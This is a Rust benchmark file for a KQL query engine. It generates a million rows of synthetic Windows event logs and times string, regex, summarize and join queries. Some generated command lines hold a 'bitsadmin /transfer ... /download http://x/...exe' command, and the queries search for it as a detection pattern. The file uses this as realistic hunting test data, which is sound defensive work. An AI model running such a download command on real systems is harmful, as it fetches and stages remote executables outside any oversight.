//! Benchmarks of the engine's operator families on generated data: string predicates,
//! regexes, `summarize` and `join` over a million rows.
//!
//! Run with `cargo bench -p kql-engine --bench operators`. Speed targets live here and in
//! the end-to-end benchmark script, never in tests.

use std::hint::black_box;
use std::sync::Arc;

use arrow::array::{Int64Array, RecordBatch, StringArray, TimestampNanosecondArray};
use arrow::datatypes::Schema;
use criterion::{Criterion, criterion_group, criterion_main};
use kql_engine::Engine;
use kql_engine::types::KustoType;

/// Rows in the generated table.
const ROWS: usize = 1_000_000;
/// Rows per batch, as the file loaders make them.
const BATCH: usize = 8192;

/// A table `Events(TimeGenerated, Computer, EventID, CommandLine)` of `ROWS` rows, about one
/// command line in a thousand a BITS download.
fn engine() -> Engine {
    let schema = Arc::new(Schema::new(vec![
        KustoType::DateTime.field("TimeGenerated"),
        KustoType::String.field("Computer"),
        KustoType::Long.field("EventID"),
        KustoType::String.field("CommandLine"),
    ]));
    let mut batches = Vec::new();
    let mut row = 0usize;
    while row < ROWS {
        let n = BATCH.min(ROWS - row);
        let times: TimestampNanosecondArray = (row..row + n)
            .map(|i| Some(1_700_000_000_000_000_000 + i as i64 * 1_000_000_000))
            .collect::<TimestampNanosecondArray>()
            .with_timezone("UTC");
        let computers: StringArray = (row..row + n)
            .map(|i| Some(format!("host-{:03}.contoso.local", i % 500)))
            .collect();
        let ids: Int64Array = (row..row + n)
            .map(|i| Some([4688, 4624, 4625, 4634][i % 4]))
            .collect();
        let lines: StringArray = (row..row + n)
            .map(|i| {
                Some(if i % 1000 == 7 {
                    format!(
                        "cmd /c bitsadmin /transfer j{i} /download http://x/{i}.exe c:\\t\\{i}.exe"
                    )
                } else {
                    format!(
                        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service{}",
                        i % 97
                    )
                })
            })
            .collect();
        let batch = RecordBatch::try_new(
            Arc::clone(&schema),
            vec![
                Arc::new(times),
                Arc::new(computers),
                Arc::new(ids),
                Arc::new(lines),
            ],
        )
        .expect("the generated columns match the schema");
        batches.push(batch);
        row += n;
    }
    let mut engine = Engine::new();
    engine
        .register_batches("Events", batches)
        .expect("the table registers");
    engine
}

fn run(engine: &Engine, query: &str) -> usize {
    let result = engine.run(query).expect("the benchmark query runs");
    result.tables.iter().map(|table| table.num_rows()).sum()
}

fn operators(c: &mut Criterion) {
    let engine = engine();
    let mut group = c.benchmark_group("1M rows");
    group.sample_size(10);
    let queries = [
        ("has", "Events | where CommandLine has 'bitsadmin' | count"),
        (
            "contains",
            "Events | where CommandLine contains 'BITSADMIN' | count",
        ),
        (
            "matches regex",
            "Events | where CommandLine matches regex @'bitsadmin(.+)/download ' | count",
        ),
        (
            "replace_regex",
            "Events | extend C = replace_regex(CommandLine, @'(\\^|\"|\\+)', '') | count",
        ),
        (
            "summarize by",
            "Events | summarize count(), dcount(EventID) by Computer",
        ),
        (
            "summarize bin",
            "Events | summarize count() by bin(TimeGenerated, 1h)",
        ),
        (
            "join",
            "Events | where EventID == 4688 | join kind=inner (Events | where EventID == 4624 | \
             summarize n = count() by Computer) on Computer | count",
        ),
        ("sort top", "Events | top 100 by TimeGenerated desc"),
    ];
    for (name, query) in queries {
        group.bench_function(name, |b| b.iter(|| black_box(run(&engine, query))));
    }
    group.finish();
}

criterion_group!(benches, operators);
criterion_main!(benches);
